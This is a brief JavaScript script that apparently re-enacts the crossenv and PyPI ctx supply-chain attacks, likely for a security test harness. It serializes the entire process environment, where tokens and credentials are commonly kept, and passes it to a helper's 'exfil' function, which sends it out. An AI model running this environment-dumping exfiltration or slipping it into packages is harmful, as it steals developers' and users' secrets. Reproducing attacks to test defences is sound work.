'use strict';
// crossenv (2017), PyPI ctx (2022): send the whole environment home.
const lib = require('./lib.js');

lib.run(async () => {
  const dump = JSON.stringify(process.env);
  lib.found(dump);
  await lib.exfil(dump);
});
